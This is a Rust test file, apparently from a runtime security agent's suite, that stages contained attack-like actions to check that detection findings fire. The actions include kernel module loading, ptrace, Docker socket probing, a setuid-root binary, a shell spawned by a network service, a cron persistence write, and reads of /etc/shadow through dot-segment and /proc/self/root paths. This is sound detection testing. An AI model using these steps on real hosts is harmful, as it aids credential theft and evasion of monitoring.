#include <sys/syscall.h>
int main(void) {
    int fd = open("/bin/true", O_RDONLY);
    if (syscall(SYS_finit_module, fd, "", 0) != 0) perror("finit_module");
    /* Linger like a container process until stdin closes. */
    while (getchar() != EOF) {}
    return 0;
}
"#,
    ),
];

/// Compiles `source` to `dir/name` with the system C compiler.
fn compile(dir: &Path, name: &str, source: &str) -> PathBuf {
    let c = dir.join(format!("{name}.c"));
    let out = dir.join(name);
    std::fs::write(&c, source).unwrap();
    let status = Command::new("cc")
        .arg("-o")
        .arg(&out)
        .arg(&c)
        .status()
        .expect("a C compiler (cc) to build the attempt programs");
    assert!(status.success(), "cc {}", c.display());
    out
}

/// The findings of `kind` about `pid`.
fn about<'a>(findings: &'a [Value], kind: &str, pid: u32) -> Vec<&'a Value> {
    findings
        .iter()
        .filter(|f| f["type"] == kind && f["process"]["pid"] == pid)
        .collect()
}

#[test]
fn guardduty_tester_attempts_in_a_pod_raise_their_types() {
    if !privileged("guardduty_tester_attempts_in_a_pod_raise_their_types") {
        return;
    }
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    let programs: Vec<(String, PathBuf)> = ATTEMPTS_C
        .iter()
        .map(|(name, source)| (name.to_string(), compile(dir, name, source)))
        .collect();
    let config = dir.join("harrier.toml");
    std::fs::write(&config, "").unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, None);
    let container = FakeContainer::create("attempts");
    // The tester's `nc -U /var/run/docker.sock` racing its own listener:
    // here nothing listens at all (ENOENT), from python in the pod (the
    // script is not called socket.py: it would import itself).
    let socket = dir.join("runtime_probe.py");
    std::fs::write(
        &socket,
        "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('/var/run/docker.sock')\nexcept OSError:\n    pass\nsys.stdin.read()\n",
    )
    .unwrap();
    let mut commands: Vec<(&str, String)> = programs
        .iter()
        .map(|(name, path)| (name.as_str(), path.display().to_string()))
        .collect();
    commands.push(("socket", format!("python3 {}", socket.display())));
    let commands: Vec<(&str, &str)> = commands.iter().map(|(n, c)| (*n, c.as_str())).collect();
    let pids = container.run(dir, &commands);
    let pid = |name: &str| pids.iter().find(|(n, _)| n == name).unwrap().1;
    let expected = [
        (
            "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
            pid("mount-attempt"),
            "-19",
        ),
        (
            "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
            pid("ptrace-pair"),
            "-5",
        ),
        (
            "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
            pid("vm-write"),
            "-14",
        ),
        (
            "DefenseEvasion:Runtime/KernelModuleLoaded",
            pid("module-attempt"),
            "-",
        ),
        (
            "PrivilegeEscalation:Runtime/DockerSocketAccessed",
            pid("socket"),
            "-2",
        ),
    ];
    let check = |findings: &[Value]| -> Vec<String> {
        expected
            .iter()
            .filter(|(kind, pid, errno)| {
                !about(findings, kind, *pid).iter().any(|f| {
                    f["container"]["id"] == container.id.as_str()
                        && evidence(f, "result").is_some_and(|r| r.starts_with(errno))
                })
            })
            .map(|(kind, pid, errno)| {
                format!("{kind} (pid {pid}) in the pod with result {errno}...")
            })
            .collect()
    };
    let findings = agent.collect(|f| check(f).is_empty());
    let absent = check(&findings);
    let seen = missing(&findings, &[]).1;
    assert!(
        absent.is_empty(),
        "missing findings: {absent:#?}\nseen:\n{seen}"
    );
}

#[test]
fn held_back_classes_raise_their_findings() {
    if !privileged("held_back_classes_raise_their_findings") {
        return;
    }
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    std::fs::set_permissions(dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let config = dir.join("harrier.toml");
    std::fs::write(&config, "").unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, None);
    let mut expected: Vec<(&str, u32)> = Vec::new();

    // A setuid-root program run by an unprivileged user, which never calls
    // setuid: root (euid 0) from its exec on.
    let suid_id = dir.join("suid-id");
    std::fs::copy("/usr/bin/id", &suid_id).unwrap();
    std::fs::set_permissions(
        &suid_id,
        std::os::unix::fs::PermissionsExt::from_mode(0o4755),
    )
    .unwrap();
    let mut elevated = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid_id)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let elevated_pid = elevated.id();
    assert!(elevated.wait().unwrap().success());
    expected.push(("PrivilegeEscalation:Runtime/ElevationToRoot", elevated_pid));

    // A small Python service (not a known daemon by name) that accepts one
    // connection and runs a shell for it.
    let service = dir.join("service.py");
    std::fs::write(
        &service,
        "import socket, subprocess, sys\nl = socket.socket()\nl.bind(('127.0.0.1', 0))\nl.listen(1)\nprint(l.getsockname()[1], flush=True)\nc, _ = l.accept()\nsubprocess.run(['/bin/sh', '-c', 'echo served'], stdout=c.fileno())\nc.close()\n",
    )
    .unwrap();
    let mut server = Command::new("python3")
        .arg(&service)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let server_pid = server.id();
    let mut port = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(server.stdout.take().unwrap()),
        &mut port,
    )
    .unwrap();
    let client = std::net::TcpStream::connect(("127.0.0.1", port.trim().parse::<u16>().unwrap()));
    drop(client.unwrap());
    assert!(server.wait().unwrap().success());

    // A cron entry written, in a private mount namespace over a scratch
    // tmpfs so the host's cron never sees it.
    let cron = sh(
        "unshare -m sh -c 'mount -t tmpfs harrier-test /etc/cron.d && echo \"* * * * * root true\" > /etc/cron.d/harrier-test'",
    );
    expected.push(("Persistence:Runtime/SensitiveFileModified", 0));

    // A copied binary run from /dev/shm, three times: new every time.
    let mut shm_pids = Vec::new();
    for i in 0..3 {
        let shm = PathBuf::from(format!("/dev/shm/harrier-held-{}-{i}", std::process::id()));
        std::fs::copy("/bin/true", &shm).unwrap();
        shm_pids.push(run(&shm, &[]));
        let _ = std::fs::remove_file(&shm);
    }
    for pid in &shm_pids {
        expected.push(("Execution:Runtime/NewBinaryExecuted", *pid));
    }

    // Drift in a pod: a binary copied in after the container started.
    let container = FakeContainer::create("drift");
    let drift = dir.join("drift-tool");
    let drift_script = dir.join("drift.sh");
    std::fs::write(
        &drift_script,
        format!("cp /bin/cat {0}\nexec {0}\n", drift.display()),
    )
    .unwrap();
    let pids = container.run(
        dir,
        &[("drift", &format!("/bin/sh {}", drift_script.display()))],
    );
    expected.push(("Execution:Runtime/NewBinaryExecuted", pids[0].1));

    // A credential file read through dot segments, absolute and relative,
    // one past the first 64 bytes the kernel filter matches prefixes on, and
    // through the process's root directory: the kernel prefix filter must
    // not drop them, and the finding shows the folded path with what was
    // given beside it.
    let deep = dir.join("d".repeat(70));
    std::fs::create_dir(&deep).unwrap();
    let up = "../".repeat(deep.components().count() - 1);
    let far = format!("{}/{up}etc/shadow", deep.display());
    let dotted = [
        "/tmp/../etc//shadow",
        "../../etc/shadow",
        far.as_str(),
        "/proc/self/root/etc/shadow",
    ];
    python(&format!("open('{}').read()", dotted[0]));
    sh(&format!("cd /var/tmp && cat {} > /dev/null", dotted[1]));
    python(&format!("open('{}').read()", dotted[2]));
    python(&format!("open('{}').read()", dotted[3]));

    let check = |findings: &[Value]| {
        let mut absent = missing(findings, &expected).0;
        for given in dotted {
            let read = findings.iter().any(|f| {
                f["type"] == "CredentialAccess:Runtime/SensitiveFileRead"
                    && f["evidence"].as_array().is_some_and(|items| {
                        items
                            .iter()
                            .any(|e| e["key"] == "path_as_given" && e["value"] == given)
                    })
                    && evidence(f, "path") == Some("/etc/shadow")
            });
            if !read {
                absent.push(format!("SensitiveFileRead of /etc/shadow given as {given}"));
            }
        }
        let served = findings.iter().any(|f| {
            f["type"] == "Execution:Runtime/SuspiciousShellCreated"
                && evidence(f, "service_pid") == Some(server_pid.to_string().as_str())
                && evidence(f, "service_network_activity")
                    .is_some_and(|a| a.starts_with("accepted"))
        });
        if !served {
            absent.push(format!(
                "SuspiciousShellCreated from the python service (pid {server_pid})"
            ));
        }
        let cron_file = findings.iter().any(|f| {
            f["type"] == "Persistence:Runtime/SensitiveFileModified"
                && evidence(f, "path") == Some("/etc/cron.d/harrier-test")
        });
        if !cron_file {
            absent.push(format!(
                "SensitiveFileModified of /etc/cron.d/harrier-test (sh {cron})"
            ));
        }
        absent
    };
    let findings = agent.collect(|f| check(f).is_empty());
    let absent = check(&findings);
    let seen = missing(&findings, &[]).1;
    assert!(
        absent.is_empty(),
        "missing findings: {absent:#?}\nseen:\n{seen}"
    );
}

#[test]
fn everyday_operator_commands_raise_nothing_medium() {
    if !privileged("everyday_operator_commands_raise_nothing_medium") {
        return;
    }
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    let config = dir.join("harrier.toml");
    std::fs::write(&config, "").unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, None);
    let repo = dir.join("repo");
    std::fs::create_dir(&repo).unwrap();
    let d = dir.display();
    let workload = [
        "dpkg -l >/dev/null",
        "dpkg -S /bin/ls >/dev/null",
        "apt-cache policy bash >/dev/null",
        "grep root /etc/passwd >/dev/null",
        "grep -c nologin /etc/passwd >/dev/null",
        "grep -i PermitRootLogin /etc/ssh/sshd_config >/dev/null 2>&1; true",
        "find /etc -maxdepth 1 -name '*.conf' -newer /etc/hostname >/dev/null",
        "ls -la /etc /var/log >/dev/null",
        "cat /etc/os-release /proc/loadavg >/dev/null",
        &format!(
            "tar czf {d}/etc.tgz -C / etc/hostname etc/os-release && tar tzf {d}/etc.tgz >/dev/null"
        ),
        &format!(
            "cd {d}/repo && git init -q && echo hi > README && git add README && git -c user.name=op -c user.email=op@example.invalid commit -qm init && git log --oneline >/dev/null"
        ),
        "ps aux >/dev/null",
        "ss -tlnp >/dev/null",
        "df -h >/dev/null; uname -a >/dev/null; id >/dev/null; uptime >/dev/null",
        "journalctl -n 5 --no-pager >/dev/null 2>&1; true",
    ];
    let pids: Vec<u32> = workload.iter().map(|c| sh(c)).collect();
    // A marker the default pack reports (Discovery, from this test's own
    // pid): once it is out, the workload's findings are out too.
    let marker_dir = dir.join("marker");
    std::fs::create_dir(&marker_dir).unwrap();
    let mut marker = Command::new("find");
    marker.arg(&marker_dir).args(["-perm", "-4000"]);
    let marker_pid = run_bounded(&mut marker, Duration::from_secs(10));
    let ours = |f: &Value| {
        let pid = f["process"]["pid"].as_u64().unwrap_or(0) as u32;
        let ancestors: Vec<u32> = f["process"]["ancestry"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|p| p["pid"].as_u64())
                    .map(|p| p as u32)
                    .collect()
            })
            .unwrap_or_default();
        pids.contains(&pid) || ancestors.iter().any(|a| pids.contains(a))
    };
    let findings = agent.collect(|f| f.iter().any(|f| f["process"]["pid"] == marker_pid));
    assert!(
        findings.iter().any(|f| f["process"]["pid"] == marker_pid),
        "the marker finding came out"
    );
    // Other tests of this binary serve loopback connections from this very
    // process, so a shell it starts may rightly count as one from a network
    // service: that is their doing, not the workload's.
    let me = std::process::id().to_string();
    let ours = |f: &Value| ours(f) && evidence(f, "service_pid") != Some(me.as_str());
    let loud: Vec<String> = findings
        .iter()
        .filter(|f| ours(f) && f["severity"].as_f64().unwrap_or(0.0) >= 4.0)
        .map(|f| {
            format!(
                "{} {} {}",
                f["type"], f["process"]["cmdline"], f["evidence"]
            )
        })
        .collect();
    assert!(
        loud.is_empty(),
        "Medium or worse from everyday commands: {loud:#?}"
    );
}
